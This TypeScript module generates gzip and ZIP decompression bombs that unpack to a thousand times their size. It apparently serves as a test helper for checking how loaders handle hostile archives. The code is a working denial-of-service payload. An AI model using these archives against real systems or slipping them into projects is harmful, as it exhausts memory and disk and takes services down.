/**
 * Files that unpack to a thousand times their size, made without their content ever being in memory.
 *
 * @module
 */
import { constants, crc32, deflateRawSync } from "node:zlib";
import { bytesOf } from "./pickle_writer.ts";

/** Bytes of the block that is repeated. */
const BLOCK = 2 ** 20;

const u16 = (value: number) => Uint8Array.of(value & 255, value >>> 8 & 255);
const u32 = (value: number) => new Uint8Array(Uint32Array.of(value).buffer);

interface Deflated {
  readonly packed: Uint8Array;
  readonly bytes: number;
  readonly crc: number;
}

/** `head`, then `unit` so often that it fills `mebibytes`, then `tail`, deflated. */
function deflated(head: string, unit: string, tail: string, mebibytes: number): Deflated {
  const block = new TextEncoder().encode(unit.repeat(Math.floor(BLOCK / unit.length)));
  // A block that ends in a full flush refers to nothing before it, so that it can be repeated as it is.
  const flushed = { finishFlush: constants.Z_FULL_FLUSH };
  const [first, packed] = [deflateRawSync(head, flushed), deflateRawSync(block, flushed)];
  let crc = crc32(head);
  for (let i = 0; i < mebibytes; i++) crc = crc32(block, crc);
  return {
    packed: bytesOf(first, ...Array.from({ length: mebibytes }, () => packed), deflateRawSync(tail)),
    bytes: head.length + mebibytes * block.length + tail.length,
    crc: crc32(tail, crc),
  };
}

/** A gzip file of such a content. */
export function gzipBomb(
  { head = "", unit, mebibytes }: {
    readonly head?: string;
    readonly unit: string;
    readonly mebibytes: number;
  },
): Uint8Array<ArrayBuffer> {
  const { packed, bytes, crc } = deflated(head, unit, "", mebibytes);
  return bytesOf("\x1f\x8b\x08", new Uint8Array(6), 255, packed, u32(crc), u32(bytes));
}

/** A ZIP archive with one such entry. */
export function zipBomb(
  path: string,
  { head, unit, tail, mebibytes }: Record<"head" | "unit" | "tail", string> & { readonly mebibytes: number },
): Uint8Array<ArrayBuffer> {
  const { packed, bytes, crc } = deflated(head, unit, tail, mebibytes);
  const sizes = bytesOf(u16(20), u16(0), u16(8), u32(0), u32(crc), u32(packed.length), u32(bytes));
  const local = bytesOf("PK\x03\x04", sizes, u16(path.length), u16(0), path, packed);
  const entry = bytesOf("PK\x01\x02", u16(20), sizes, u16(path.length), new Uint8Array(16), path);
  const end = bytesOf("PK\x05\x06", u32(0), u16(1), u16(1), u32(entry.length), u32(local.length), u16(0));
  return bytesOf(local, entry, end);
}
